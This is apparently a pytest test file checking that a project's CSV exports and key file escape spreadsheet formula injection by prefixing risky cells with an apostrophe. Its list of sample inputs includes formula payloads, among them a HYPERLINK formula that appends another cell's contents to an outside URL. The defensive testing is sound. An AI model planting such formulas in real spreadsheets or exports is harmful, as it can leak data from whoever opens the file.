"""What a program that keeps tables would take for a formula is written as a text."""

import csv
from io import StringIO
from pathlib import Path

import pytest

from itg.cli.rosters import KeyFile
from itg.gateway.tables import csv_of
from itg.translate.round_rows import Column
from itg.translate.spreadsheets import as_cell
from itg.translate.table_files import write_csv

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", '=HYPERLINK("http://x?"&D2)']
COLUMNS = [Column("team", "str", "", "who"), Column("price", "float", "USD", "price")]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_begins_a_formula_stands_as_a_text_in_every_table(name: str) -> None:
    offline = StringIO(newline="")
    assert write_csv(COLUMNS, [(name, -1.5)], offline) == 1
    online = csv_of([{"team": name, "price": -1.5}]).decode()
    for text in (offline.getvalue(), online):
        assert read(text) == [["team", "price"], [f"'{name}", "-1.5"]]


def test_numbers_below_zero_and_other_texts_stay_as_they_are() -> None:
    rows: list[dict[str, str | int | float | bool | None]] = [
        {"team": "Blue = Red", "price": -0.25, "quantity": -3, "is_own": True, "none": None}
    ]
    assert read(csv_of(rows).decode())[1] == ["Blue = Red", "-0.25", "-3", "True", ""]


@pytest.mark.parametrize("text", ["\rx", "=", "-"])
def test_whatever_begins_with_a_sign_of_a_formula_gets_an_apostrophe(text: str) -> None:
    assert as_cell(text) == f"'{text}"
    assert as_cell(f" {text}") == f" {text}"


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_begins_a_formula_stands_as_a_text_beside_the_keys(
    name: str, tmp_path: Path
) -> None:
    file = tmp_path / "team-keys.csv"
    KeyFile(file).add(
        [{"team_id": "t1", "team_name": name, "role": "hedge_fund", "api_key": "itg_x"}]
    )
    with file.open(encoding="utf-8", newline="") as text:
        (row,) = csv.DictReader(text)
    assert list(row.values()) == ["t1", f"'{name}", "hedge_fund", "itg_x"]
